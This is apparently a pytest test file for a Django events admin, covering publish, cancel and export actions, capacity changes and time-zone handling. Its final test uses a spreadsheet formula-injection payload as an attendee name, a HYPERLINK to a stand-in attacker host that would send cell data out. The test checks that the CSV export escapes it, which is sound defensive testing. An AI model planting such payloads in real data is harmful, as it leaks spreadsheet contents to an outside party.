"""The events admin: actions, changes through the services, and times typed in the
event's own time zone."""

import csv
import datetime as dt
import io
from zoneinfo import ZoneInfo

import pytest

from events import services
from events.models import Event, Registration
from tests.factories import EventFactory, PlatformFactory, StaffFactory, member
from tests.pages import logged_in, text

pytestmark = pytest.mark.django_db


def test_admin_actions_publish_cancel_and_export(mailbox, on_commit):
    staff = StaffFactory(is_superuser=True)
    client = logged_in(staff)
    draft = EventFactory(status="draft", title="Draft forum")
    live = EventFactory(title="Live forum", capacity=1)
    services.registration_create(actor=member(email="a@sme.example"), event=live)
    services.registration_create(actor=member(email="b@sme.example"), event=live)
    mailbox.clear()
    client.post("/admin/events/event/", {"action": "publish", "_selected_action": [draft.pk]})
    assert Event.objects.get(pk=draft.pk).status == "published"
    response = client.post(
        "/admin/events/event/", {"action": "export_attendees", "_selected_action": [live.pk]}
    )
    lines = response.content.decode("utf-8-sig").strip().splitlines()
    assert len(lines) == 3
    assert lines[1].startswith("Live forum,")
    with on_commit():
        client.post(
            "/admin/events/event/", {"action": "cancel_events", "_selected_action": [live.pk]}
        )
    assert Event.objects.get(pk=live.pk).status == "cancelled"
    assert sorted(m["X-Envelope-To"] for m in mailbox.messages) == [
        "a@sme.example",
        "b@sme.example",
    ]
    assert client.get(f"/admin/events/event/{live.pk}/change/").status_code == 200
    assert client.get("/admin/events/registration/").status_code == 200


def test_admin_change_capacity_promotes_and_refuses_below_taken(on_commit):
    staff = StaffFactory(is_superuser=True)
    client = logged_in(staff)
    event = EventFactory(capacity=1)
    for _ in range(3):
        services.registration_create(actor=member(), event=event)
    form = client.get(f"/admin/events/event/{event.pk}/change/").context["adminform"].form
    data = {k: v for k, v in form.initial.items() if v is not None and not isinstance(v, list)}
    # The admin shows and takes times in the event's own zone.
    starts, ends = (
        t.astimezone(ZoneInfo(event.time_zone)) for t in (event.starts_at, event.ends_at)
    )
    data.update(
        {
            "starts_at_0": starts.strftime("%Y-%m-%d"),
            "starts_at_1": starts.strftime("%H:%M:%S"),
            "ends_at_0": ends.strftime("%Y-%m-%d"),
            "ends_at_1": ends.strftime("%H:%M:%S"),
            "platform": event.platform_id,
            "capacity": 0,
            "registrations-TOTAL_FORMS": 3,
            "registrations-INITIAL_FORMS": 3,
            "registrations-MIN_NUM_FORMS": 0,
            "registrations-MAX_NUM_FORMS": 1000,
        }
    )
    for n, pk in enumerate(
        Registration.objects.filter(event=event)
        .order_by("status", "waitlist_position", "created_at")
        .values_list("pk", flat=True)
    ):
        data[f"registrations-{n}-id"] = pk
        data[f"registrations-{n}-event"] = event.pk
    data.pop("registration_opens_at", None)
    data.pop("registration_closes_at", None)
    response = client.post(f"/admin/events/event/{event.pk}/change/", data)
    assert response.status_code == 200
    assert "1 people are already confirmed" in text(response)
    data["capacity"] = 2
    with on_commit():
        response = client.post(f"/admin/events/event/{event.pk}/change/", data)
    assert response.status_code == 302, (
        response.context["adminform"].form.errors,
        [f.formset.errors for f in response.context["inline_admin_formsets"]],
    )
    starts_at = event.starts_at
    event.refresh_from_db()
    assert (event.capacity, event.seats_taken, event.waitlist_length) == (2, 2, 1)
    assert event.starts_at == starts_at


def test_admin_check_in_marks_confirmed_and_reports_refusals():
    client = logged_in(StaffFactory(is_superuser=True))
    event = EventFactory(capacity=1)
    confirmed = services.registration_create(actor=member(), event=event)
    waitlisted = services.registration_create(actor=member(), event=event)
    response = client.post(
        "/admin/events/registration/",
        {"action": "check_in", "_selected_action": [confirmed.pk, waitlisted.pk]},
        follow=True,
    )
    notes = [str(m) for m in response.context["messages"]]
    assert notes[-1] == "1 registration(s) checked in."
    assert len(notes) == 2 and notes[0].startswith(f"{waitlisted}: ")
    assert Registration.objects.get(pk=confirmed.pk).status == "attended"
    assert Registration.objects.get(pk=waitlisted.pk).status == "waitlisted"


def _event_form(platform, **values) -> dict:
    data = {
        "platform": platform.pk,
        "kind": "forum_session",
        "title": "Chennai auto components forum",
        "slug": "chennai-auto-components",
        "status": "published",
        "visibility": "public",
        "time_zone": "Asia/Kolkata",
        "starts_at_0": "2030-03-10",
        "starts_at_1": "10:00",
        "ends_at_0": "2030-03-10",
        "ends_at_1": "13:00",
        "registration_opens_at_0": "",
        "registration_opens_at_1": "",
        "registration_closes_at_0": "2030-03-09",
        "registration_closes_at_1": "18:00",
        "city": "Chennai",
        "country": "IN",
        "capacity": "20",
        "registrations-TOTAL_FORMS": "0",
        "registrations-INITIAL_FORMS": "0",
        "registrations-MIN_NUM_FORMS": "0",
        "registrations-MAX_NUM_FORMS": "1000",
    }
    data.update(values)
    return data


def test_admin_times_are_typed_and_shown_in_the_events_time_zone(mailbox, on_commit):
    # The staff member reads the site in Tokyo time: that must not change what 10:00 means.
    staff = StaffFactory(is_superuser=True, profile__time_zone="Asia/Tokyo")
    client = logged_in(staff)
    platform = PlatformFactory()
    form = client.get("/admin/events/event/add/").context["adminform"].form
    assert form.fields["starts_at"].label == "Starts (event time zone)"
    response = client.post("/admin/events/event/add/", _event_form(platform))
    assert response.status_code == 302, response.context["adminform"].form.errors
    event = Event.objects.get(slug="chennai-auto-components")
    assert event.starts_at == dt.datetime(2030, 3, 10, 4, 30, tzinfo=dt.UTC)
    assert event.ends_at == dt.datetime(2030, 3, 10, 7, 30, tzinfo=dt.UTC)
    assert event.registration_closes_at == dt.datetime(2030, 3, 9, 12, 30, tzinfo=dt.UTC)

    page = client.get(f"/admin/events/event/{event.pk}/change/")
    form = page.context["adminform"].form
    assert form.fields["starts_at"].label == "Starts (Asia/Kolkata)"
    assert 'name="starts_at_1" value="10:00:00"' in page.content.decode()
    assert "10 Mar 2030, 10:00 (Asia/Kolkata)" in text(client.get("/admin/events/event/"))

    reader = member(email="meera@sme.example", profile__time_zone="Asia/Kolkata")
    with on_commit():
        services.registration_create(actor=reader, event=event)
    (message,) = mailbox.to("meera@sme.example")
    assert "When: 10 Mar 2030, 10:00 (Asia/Kolkata)" in mailbox.text(message).splitlines()


def test_admin_changing_the_time_zone_keeps_the_wall_clock_time():
    client = logged_in(StaffFactory(is_superuser=True))
    platform = PlatformFactory()
    client.post("/admin/events/event/add/", _event_form(platform))
    event = Event.objects.get(slug="chennai-auto-components")
    response = client.post(
        f"/admin/events/event/{event.pk}/change/",
        _event_form(platform, time_zone="Asia/Tokyo", city="Osaka", country="JP"),
    )
    assert response.status_code == 302, response.context["adminform"].form.errors
    event.refresh_from_db()
    assert event.starts_at == dt.datetime(2030, 3, 10, 1, 0, tzinfo=dt.UTC)
    assert event.registration_closes_at == dt.datetime(2030, 3, 9, 9, 0, tzinfo=dt.UTC)
    assert event.sequence == 1


def test_admin_bad_times_are_field_errors_and_save_nothing():
    client = logged_in(StaffFactory(is_superuser=True))
    platform = PlatformFactory()
    response = client.post(
        "/admin/events/event/add/",
        _event_form(platform, starts_at_1="25:00", time_zone="Mars/Olympus"),
    )
    errors = response.context["adminform"].form.errors
    assert response.status_code == 200
    assert errors["starts_at"] == ["Enter a valid time."]
    assert errors["time_zone"][0].startswith("Select a valid choice.")
    response = client.post(
        "/admin/events/event/add/", _event_form(platform, ends_at_0="2030-03-09")
    )
    assert response.status_code == 200
    assert not Event.objects.exists()


def test_admin_attendee_export_keeps_a_formula_name_as_text():
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    event = EventFactory(title="@Osaka forum")
    services.registration_create(actor=member(first_name=evil, last_name=""), event=event)
    response = logged_in(StaffFactory(is_superuser=True)).post(
        "/admin/events/event/", {"action": "export_attendees", "_selected_action": [event.pk]}
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert table[0][:3] == ["event", "registration", "name"]
    assert (table[1][0], table[1][2]) == ("'@Osaka forum", "'" + evil)
